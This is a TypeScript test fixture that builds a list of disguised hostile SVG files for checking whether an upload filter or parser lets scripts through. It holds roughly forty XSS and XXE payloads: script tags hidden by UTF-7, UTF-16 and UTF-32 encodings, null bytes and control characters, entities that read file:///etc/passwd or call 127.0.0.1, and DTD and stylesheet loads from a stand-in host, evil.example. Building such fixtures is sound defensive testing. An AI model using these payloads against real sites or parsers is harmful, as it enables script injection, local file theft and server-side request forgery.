import type { HostileFile } from './hostile-file.ts';

const evil = 'https://evil.example';
const code = 'alert(document.domain)';
const inside = `<rect width="9" height="9"/><script>${code}</script>`;
const svg = 'svg xmlns="http://www.w3.org/2000/svg"';
const whole = `<${svg}>${inside}</svg>`;

/** SVGs whose beginning or encoding is the attack. */
const svgs: readonly [string, string | Buffer][] = [
  ['an onload of its own', `<${svg} onload="${code}"><rect width="9" height="9"/></svg>`],
  ['a byte order mark', `\ufeff${whole}`],
  ['UTF-16', utf16(`<?xml version="1.0" encoding="UTF-16"?>${whole}`)],
  ['UTF-16, the other way round', utf16(whole).swap16()],
  ['UTF-16 without a mark', utf16(whole).subarray(2)],
  ['UTF-32', utf32(whole)],
  [
    'UTF-7',
    `<?xml version="1.0" encoding="UTF-7"?><${svg}><rect width="9" height="9"/>+ADw-script+AD4-${code}+ADw-/script+AD4-</svg>`,
  ],
  ['UTF-7 after a mark', `+/v8-<${svg}>+ADw-script+AD4-${code}+ADw-/script+AD4-</svg>`],
  [
    'Latin letters',
    Buffer.from(
      `<?xml version="1.0" encoding="ISO-8859-1"?><${svg}><title>\xe9</title>${inside}</svg>`,
      'latin1',
    ),
  ],
  [
    'Japanese letters',
    `<?xml version="1.0" encoding="ISO-2022-JP"?><${svg}><title>\x1b$B</title>${inside}<title>\x1b(B</title></svg>`,
  ],
  ['an encoding nobody knows', `<?xml version="1.0" encoding="x-user-defined"?>${whole}`],
  [
    'bytes that are no letters',
    Buffer.concat([
      Buffer.from(`<${svg}><title>`),
      Buffer.from([0xc0, 0xbc, 0xff, 0xfe]),
      Buffer.from(`</title>${inside}</svg>`),
    ]),
  ],
  ['null bytes', whole.replaceAll('script', 'scr\0ipt')],
  ['control signs', whole.replaceAll('<script>', '<script\x0c\x1f>')],
  ['XML 1.1', `<?xml version="1.1"?>${whole.replaceAll('alert', '&#x1;alert')}`],
  ['white space before it', `${' \n\t'.repeat(20_000)}${whole}`],
  ['a comment before it', `<!-- ${'x'.repeat(70_000)} -->${whole}`],
  ['a style sheet', `<?xml-stylesheet type="text/css" href="${evil}/x.css"?>${whole}`],
  ['a transformation', `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${whole}`],
  ['a document type', `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${evil}/x.dtd">${whole}`],
  [
    'an entity',
    `<!DOCTYPE svg [<!ENTITY s "<script>${code}</script>">]><${svg}><rect width="9" height="9"/>&s;</svg>`,
  ],
  [
    'an entity in an attribute',
    `<!DOCTYPE svg [<!ENTITY j "javascript:">]><${svg}><a href="&j;${code}"><rect width="9" height="9"/></a></svg>`,
  ],
  [
    'an entity from this machine',
    `<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]><${svg}><text>&f;</text></svg>`,
  ],
  [
    'an entity from elsewhere',
    `<!DOCTYPE svg [<!ENTITY f SYSTEM "http://127.0.0.1:1/x">]><${svg}><text>&f;</text></svg>`,
  ],
  [
    'an entity of the document type',
    `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${evil}/x.dtd"> %p;]>${whole}`,
  ],
  [
    'an attribute by the document type',
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${code}">]><${svg}><rect width="9" height="9"/></svg>`,
  ],
  ['a document type that does not end', `<!DOCTYPE svg [<!ENTITY a "${whole}`],
  [
    'a prefix for everything',
    `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:rect width="9" height="9"/><s:script>${code}</s:script></s:svg>`,
  ],
  ['no namespace', `<svg>${inside}</svg>`],
  ['the namespace of HTML', `<svg xmlns="http://www.w3.org/1999/xhtml">${inside}</svg>`],
  ['a page around it', `<!DOCTYPE html><html><body>${whole}</body></html>`],
  [
    'a page of XHTML around it',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body>${whole}</body></html>`,
  ],
  ['a page after it', `${whole}<html><script>${code}</script></html>`],
  ['text before it', `GIF89a/*${whole}*/`],
  ['two SVGs', `${whole}${whole}`],
  ['capitals', whole.replace('<svg', '<SVG').replace('</svg', '</SVG')],
  ['nothing but a script', `<${svg}><script>${code}</script></svg>`],
  [
    'a script that makes itself',
    `<${svg} onload="this.appendChild(document.createElement('script')).text='${code}'"><rect width="9" height="9"/></svg>`,
  ],
];

export function disguisedSvgs(): HostileFile[] {
  return svgs.map(([what, content]) => ({
    name: `SVG with ${what}`,
    bytes: Buffer.isBuffer(content) ? content : Buffer.from(content),
    fileName: 'disguised.svg',
    mayBeTaken: true,
    about: 'One program reads it as harmless, another one runs it.',
  }));
}

function utf16(text: string): Buffer {
  return Buffer.from(`\ufeff${text}`, 'utf16le');
}

function utf32(text: string): Buffer {
  const bytes = Buffer.alloc(4 * (text.length + 1));
  [...`\ufeff${text}`].forEach((sign, index) => {
    bytes.writeUInt32LE(sign.codePointAt(0) ?? 0, 4 * index);
  });
  return bytes;
}
